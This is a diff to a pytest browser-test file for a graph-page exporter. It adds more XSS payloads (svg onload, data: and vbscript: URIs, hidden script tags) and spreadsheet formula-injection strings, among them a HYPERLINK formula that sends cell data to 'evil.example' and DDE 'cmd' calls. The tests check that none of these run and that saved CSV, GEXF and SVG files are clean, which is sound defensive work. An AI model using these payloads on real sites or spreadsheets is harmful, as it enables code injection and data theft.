@@ -1,15 +1,21 @@
-"""Fifty texts that want to run: in names, ids, titles, sources and addresses. None does."""
+"""More than fifty texts that want to run: in names, ids, titles, sources and addresses. None does."""
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import date
+from pathlib import Path
+from urllib.parse import quote
+from xml.etree import ElementTree
 
 import pytest
 
 from kg.export.model import Fact, PageLink, PageModel, PageNode, PageSource, Partner
-from kg.export.page import PageOptions
+from kg.export.page import PageOptions, write_page
 from kg.export.sparql import PageGraph
-from tests.browser.conftest import Opener
+from tests.browser.conftest import Opener, Watched
+from tests.export.story import story
 
 pytestmark = pytest.mark.browser
 
@@ -72,7 +78,39 @@ PAYLOADS = (
     'http://evil.example/"onclick="alert(1)',
     "__proto__",
     "constructor",
+    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
+    f"</script\t\n/><script\n>{RUN}</script\f>",
+    f"]]>\"'--!><svg/onload={RUN}>",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"%3Cscript%3E{RUN}%3C/script%3E",
+    f"\ufeff\u0000<script>{RUN}</script>",
+    f"\u202e<img src=x onerror={RUN}>\u202c",
+    "<svg><use href='https://evil.example/s.svg#x'/></svg>",
+    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
+    f"vbscript:{RUN}",
+    '=HYPERLINK("https://evil.example/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
 )
+
+
+DRAWN = {"svg", "rect", "text", "path", "polygon", "circle"}
+EXCHANGED = {
+    *(
+        "gexf",
+        "meta",
+        "creator",
+        "description",
+        "graph",
+        "attributes",
+        "attribute",
+        "nodes",
+        "node",
+        "attvalues",
+    ),
+    *("attvalue", "edges", "edge"),
+}
+FOREIGN = "iframe, object, embed, base, form, img, video, audio, link[rel=stylesheet], body script:not([id])"
 
 
 def poisoned() -> PageModel:
@@ -121,6 +159,15 @@ def poisoned() -> PageModel:
     )
 
 
+def unharmed(watched: Watched) -> None:
+    """Nothing of a payload ran or was made into an element."""
+    page = watched.page
+    assert page.evaluate("window.pwned") is None
+    assert page.evaluate(f"document.querySelectorAll('{FOREIGN}').length") == 0
+    assert page.evaluate("Array.from(document.links).every(a => /^https?:|#query$/.test(a.href))")
+    assert watched.quiet()
+
+
 @pytest.mark.parametrize("large", [False, True])
 def test_no_payload_runs(opened: Opener, large: bool) -> None:
     assert len(PAYLOADS) >= 50
@@ -144,16 +191,8 @@ def test_no_payload_runs(opened: Opener, large: bool) -> None:
     page.click("#share")
     page.wait_for_timeout(300)
 
-    assert page.evaluate("window.pwned") is None
     assert set(page.evaluate("Object.keys(window)")) - before == set()
-    assert (
-        page.evaluate(
-            "document.querySelectorAll('iframe, object, embed, base, form, img, video, audio').length"
-        )
-        == 0
-    )
-    assert page.evaluate("Array.from(document.links).every(a => /^https?:|#query$/.test(a.href))")
-    assert watched.quiet()
+    unharmed(watched)
 
 
 def test_a_saved_copy_is_as_safe_as_the_page(
@@ -166,7 +205,46 @@ def test_a_saved_copy_is_as_safe_as_the_page(
     copy = tmp_path_factory.mktemp("copy") / "copy.html"
     download.value.save_as(copy)
 
-    again = opened(copy)
+    unharmed(opened(copy))
 
-    assert again.page.evaluate("window.pwned") is None
-    assert again.quiet()
+
+@pytest.mark.parametrize("payload", PAYLOADS[::4])
+def test_a_link_to_a_view_cannot_run_anything(opened: Opener, payload: str) -> None:
+    text = quote(payload)
+    keys = "vqkcsptfobl"
+    everywhere = "&".join([*(f"{key}={text}" for key in keys), *(f"{key}={text}" for key in "xygnah" * 2)])
+
+    watched = opened(poisoned(), hash_="#" + everywhere)
+    watched.page.evaluate("document.querySelector('#share').click()")
+    watched.page.fill("#given-code", "#" + everywhere)
+    watched.page.click("#open-code")
+
+    unharmed(watched)
+
+
+def test_an_earlier_page_brings_nothing_in(opened: Opener, tmp_path: Path) -> None:
+    write_page(poisoned(), tmp_path / "earlier.html")
+
+    watched = opened(story(), PageOptions(previous=tmp_path / "earlier.html"))
+
+    assert "No longer there" in watched.page.inner_text("#changes")
+    unharmed(watched)
+
+
+def test_saved_lists_and_drawings_hold_texts_only(opened: Opener) -> None:
+    page = opened(poisoned()).page
+    page.click("#keep summary")
+    saved = {}
+    for button in ("#save-csv", "#save-gexf", "#save-svg"):
+        with page.expect_download() as download:
+            page.click(button)
+        saved[button] = Path(download.value.path()).read_bytes().decode("utf-8-sig")
+
+    rows = list(csv.reader(io.StringIO(saved["#save-csv"], newline="")))
+    assert len(rows) == len(PAYLOADS) + 1
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    for markup in (saved["#save-gexf"], saved["#save-svg"]):
+        tree = ElementTree.fromstring(markup)  # noqa: S314 - our own file
+        names = {element.tag.rpartition("}")[2] for element in tree.iter()}
+        assert names <= DRAWN | EXCHANGED
+        assert not [key for element in tree.iter() for key in element.attrib if key.startswith("on")]
